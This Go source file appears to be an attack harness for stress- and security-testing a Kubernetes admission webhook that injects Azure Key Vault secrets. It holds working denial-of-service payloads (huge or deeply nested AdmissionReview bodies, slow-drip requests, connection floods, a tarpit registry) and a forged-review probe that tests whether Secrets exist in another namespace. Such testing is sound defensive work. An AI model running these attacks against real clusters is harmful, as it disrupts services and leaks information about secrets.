package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"
)

// A review of a pod, as the API server sends it, around the part of the pod's spec that costs.
const (
	reviewBegin = `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","operation":"CREATE","namespace":"default",` +
		`"kind":{"version":"v1","kind":"Pod"},"resource":{"version":"v1","resource":"pods"},` +
		`"object":{"apiVersion":"v1","kind":"Pod","metadata":{"name":"x","namespace":"default"},"spec":{`
	reviewEnd = `}}}}`
)

// manyContainers is a body of 7 MiB with 2.4 million empty containers.
func manyContainers() string {
	return reviewBegin + `"containers":[{}` + strings.Repeat(",{}", 2_400_000) + `]` + reviewEnd
}

// manyVariables has 40,000 variables that use the first, which is a reference.
func manyVariables() string {
	return reviewBegin +
		`"containers":[{"name":"a","image":"x","command":["x"],"env":[{"name":"A","value":"db@azurekeyvault"}` +
		strings.Repeat(`,{"name":"B","value":"$(A)"}`, 40_000) + `]}]` + reviewEnd
}

// manyReferences has 8,000 containers with a reference each.
func manyReferences() string {
	var containers strings.Builder
	for i := range 8000 {
		fmt.Fprintf(&containers,
			`,{"name":"c%d","image":"x","command":["x"],"env":[{"name":"A","value":"db@azurekeyvault"}]}`, i)
	}
	return reviewBegin + `"containers":[` + containers.String()[1:] + `]` + reviewEnd
}

// manySources has a variable from each of 20,000 Secrets.
func manySources() string {
	var sources strings.Builder
	for i := range 20_000 {
		fmt.Fprintf(&sources, `,{"secretRef":{"name":"s%d"}}`, i)
	}
	return reviewBegin + `"containers":[{"name":"a","image":"x","command":["x"],"envFrom":[` + sources.String()[1:] +
		`]}]` + reviewEnd
}

// deepNesting is an array in an array, a million times.
func deepNesting() string {
	return reviewBegin + `"x":` + strings.Repeat("[", 1_000_000) + strings.Repeat("]", 1_000_000) + reviewEnd
}

// askForSecrets asks with forged reviews whether a Secret of a namespace without injection exists, and compares the
// answers for one that does (known) and one that does not (absent).
func askForSecrets(ctx context.Context, a *attacker) string {
	answers := map[string]string{}
	for _, name := range []string{"known", "absent"} {
		body := strings.ReplaceAll(reviewBegin, `"namespace":"default"`, `"namespace":"other-stranger"`) +
			fmt.Sprintf(`"containers":[{"name":"a","image":"x","command":["x"],`+
				`"envFrom":[{"secretRef":{"name":"%s"}}],`+
				`"env":[{"name":"A","valueFrom":{"secretKeyRef":{"name":"%[1]s","key":"key"}}},`+
				`{"name":"B","value":"db@azurekeyvault"}]}]`, name) + reviewEnd
		request, err := a.newReview(ctx, body)
		if err != nil {
			return "failed"
		}
		response, err := a.client.Do(request)
		if err != nil {
			return "failed"
		}
		content, err := io.ReadAll(io.LimitReader(response.Body, 1<<20))
		_ = response.Body.Close()
		if err != nil || response.StatusCode != http.StatusOK {
			return fmt.Sprint(response.StatusCode)
		}
		answers[name] = strings.ReplaceAll(string(content), name, "NAME")
	}
	if answers["known"] != answers["absent"] {
		return "told"
	}
	return "200"
}

// newReview is a request of the webhook with this body.
func (a *attacker) newReview(ctx context.Context, body string) (*http.Request, error) {
	request, err := http.NewRequestWithContext(ctx, http.MethodPost,
		"https://"+a.address("webhook")+"/pods?timeout=10s", strings.NewReader(body))
	if err != nil {
		return nil, err
	}
	request.Header.Set("Content-Type", "application/json")
	return request, nil
}

// reviewOf sends one body again and again.
func reviewOf(body func() string) attack {
	once := sync.OnceValue(body)
	return func(ctx context.Context, a *attacker) string {
		request, err := a.newReview(ctx, once())
		if err != nil {
			return "failed"
		}
		return outcome(a.client.Do(request)) //nolint:bodyclose // outcome closes it
	}
}

// drip sends a body of which a byte arrives each second.
func drip(port, path string) attack {
	return func(ctx context.Context, a *attacker) string {
		reader, writer := io.Pipe()
		go func() {
			for ctx.Err() == nil {
				if _, err := writer.Write([]byte(" ")); err != nil {
					return
				}
				time.Sleep(time.Second)
			}
			_ = writer.Close()
		}()
		request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+a.address(port)+path, reader)
		if err != nil {
			return "failed"
		}
		request.ContentLength = 64 << 10
		request.Header.Set("Content-Type", "application/json")
		if a.token != "" {
			request.Header.Set("Authorization", "Bearer "+a.token)
		}
		return outcome(a.client.Do(request)) //nolint:bodyclose // outcome closes it
	}
}

// probes floods the ports of health and metrics of both components.
func probes(ctx context.Context, a *attacker) string {
	for _, port := range []string{"http", "controller"} {
		for _, path := range []string{"/metrics", "/healthz", "/readyz"} {
			request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+a.address(port)+path, nil)
			if err != nil {
				return "failed"
			}
			a.count(outcome(a.client.Do(request))) //nolint:bodyclose // outcome closes it
		}
	}
	return "rounds"
}

// connections opens connections to every port, and says nothing on them.
func connections(ctx context.Context, a *attacker) string {
	for _, port := range []string{"webhook", "auth-service", "http", "controller"} {
		conn, err := (&net.Dialer{Timeout: time.Second}).DialContext(ctx, "tcp", a.address(port))
		if err != nil {
			a.count("refused")
			continue
		}
		context.AfterFunc(ctx, func() { _ = conn.Close() })
		a.count("opened")
	}
	time.Sleep(10 * time.Millisecond)
	return "rounds"
}

// tarpit is a registry that accepts connections and never answers.
func tarpit(ctx context.Context, a *attacker) string {
	listener, err := (&net.ListenConfig{}).Listen(ctx, "tcp", ":5000")
	if err != nil { // another worker listens already
		<-ctx.Done()
		return "idle"
	}
	context.AfterFunc(ctx, func() { _ = listener.Close() })
	for {
		conn, err := listener.Accept()
		if err != nil {
			return "closed"
		}
		a.count("accepted")
		context.AfterFunc(ctx, func() { _ = conn.Close() })
	}
}
